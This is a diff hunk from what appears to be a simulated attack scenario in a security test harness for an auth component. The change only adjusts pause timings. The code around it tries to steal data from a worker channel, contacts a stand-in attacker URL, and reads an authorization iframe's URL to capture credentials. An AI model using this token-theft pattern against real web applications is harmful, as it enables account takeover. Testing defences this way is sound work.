@@ -25,14 +25,14 @@ export default attack({
       const { port1, port2 } = new MessageChannel();
       port1.onmessage = ({ data }) => it.steal(data);
       worker?.postMessage("strongroom:hello", [port2]);
-      await it.pause(200);
+      await it.pause(60);
       for (const home of [it.attackerUrl, it.siblingUrl]) await fetch(`${home}/registered`).catch(() => {});
       await fetch(`${it.apiUrl}me`).catch(() => {});
     }
     const frame = document.createElement("iframe");
     frame.src = it.authorizationUrl();
     document.body.append(frame);
-    await it.pause(500);
+    await it.pause(400);
     try {
       it.steal(frame.contentWindow?.location.href);
     } catch {
